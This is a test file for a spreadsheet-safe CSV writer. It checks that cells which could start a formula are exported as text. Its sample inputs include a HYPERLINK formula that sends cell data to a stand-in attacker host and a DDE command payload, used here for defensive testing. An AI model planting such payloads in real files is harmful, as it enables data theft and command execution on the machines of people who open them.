// Text that could start a formula is exported as text, so a value planted in an import file cannot
// run when someone opens the rejects file or an export in a spreadsheet.
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../src/platform/imports/csv-writer.js';
import { neutraliseCell, type CellValue } from '../../../src/platform/imports/spreadsheet-cells.js';

describe('neutralising cells for spreadsheets', () => {
  it.each([
    ['a formula', '=1+1', "'=1+1"],
    ['a hyperlink formula', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['a DDE payload', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['a plus sign', '+1', "'+1"],
    ['a minus sign that starts a sum', '-1+2', "'-1+2"],
    ['a negative number written as text', '-5', "'-5"],
    ['an at sign that starts a function', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a tab before a formula', '\t=1', "'\t=1"],
    ['a carriage return before a formula', '\r=1', "'\r=1"],
    ['a lone equals sign', '=', "'="],
  ])('%s (%j) gets a leading apostrophe', (_, cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });

  it.each<[string, CellValue]>([
    ['plain text', 'Ward 7'],
    ['an email address with an at sign inside', 'jane@trust.nhs.uk'],
    ['an equals sign inside', 'a=b'],
    ['a hyphenated date', '2026-12-05'],
    ['a space before an equals sign', ' =1'],
    ['an empty cell', ''],
    ['a negative number the export produced', -5],
    ['a negative decimal the export produced', -0.25],
    ['a positive number', 12],
    ['true', true],
    ['false', false],
    ['no value', null],
  ])('%s is left as it is', (_, cell) => {
    expect(neutraliseCell(cell)).toBe(cell);
  });
});

describe('one CSV line', () => {
  it.each<[string, CellValue[], string]>([
    ['plain cells', ['RX1', 'Ward 7', 3], 'RX1,Ward 7,3\r\n'],
    ['a comma', ['Smith, Jane'], '"Smith, Jane"\r\n'],
    ['a quote', ['The "Lodge"'], '"The ""Lodge"""\r\n'],
    ['a line feed', ['line one\nline two'], '"line one\nline two"\r\n'],
    ['a carriage return inside', ['line one\r\nline two'], '"line one\r\nline two"\r\n'],
    ['empty cells and no value', ['', null, 'x'], ',,x\r\n'],
    ['booleans', [true, false], 'true,false\r\n'],
    ['a number the export produced, never neutralised', [-5, -1.5], '-5,-1.5\r\n'],
    ['numbers a spreadsheet cannot hold, as empty cells', [Number.NaN, Number.POSITIVE_INFINITY], ',\r\n'],
    ['a formula as text', ['=HYPERLINK("http://evil.example","x")'], `"'=HYPERLINK(""http://evil.example"",""x"")"\r\n`],
    ['a negative number as text', ['-5'], "'-5\r\n"],
    ['a formula after a carriage return, neutralised then quoted', ['\r=1'], `"'\r=1"\r\n`],
    ['an at sign', ['@SUM(A1)'], "'@SUM(A1)\r\n"],
    ['a tab before a formula', ['\t=1'], "'\t=1\r\n"],
    ['accented names', ['Zoë Ó Súilleabháin'], 'Zoë Ó Súilleabháin\r\n'],
    ['no cells', [], '\r\n'],
  ])('%s', (_, cells, expected) => {
    expect(csvLine(cells)).toBe(expected);
  });
});
